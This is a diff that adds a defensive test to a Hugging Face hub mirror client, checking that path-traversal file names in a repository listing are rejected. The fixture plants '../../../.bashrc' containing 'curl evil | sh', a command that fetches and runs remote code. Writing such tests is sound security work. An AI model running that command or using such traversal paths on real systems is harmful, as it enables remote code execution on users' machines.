@@ -322,3 +322,14 @@ def test_server_answers_paths_info_and_tree_like_the_hub(
     meta = get_hf_file_metadata(url, token=False, endpoint=hub.endpoint)
     assert meta.xet_file_data is None and meta.commit_hash == commit
     assert meta.etag == hashlib.sha256(model_bytes).hexdigest() and meta.size == len(model_bytes)
+
+
+def test_rejects_mirror_listing_paths_that_escape_the_repo(
+    hub: HubServer, model_bytes: bytes
+) -> None:
+    hub.commit(REPO, {"../../../.bashrc": b"curl evil | sh\n", "tiny.gguf": model_bytes})
+    with pytest.raises(IntegrityError, match="unsafe names") as e:
+        _client().resolve(REPO, "main")
+    assert e.value.problems == ("'../../../.bashrc'",)
+    with pytest.raises(FetchError, match="unsafe path"):
+        _client().fetch(REPO, "c" * 40, "../x", size=1, lfs_sha256="0" * 64, blob_id=None)
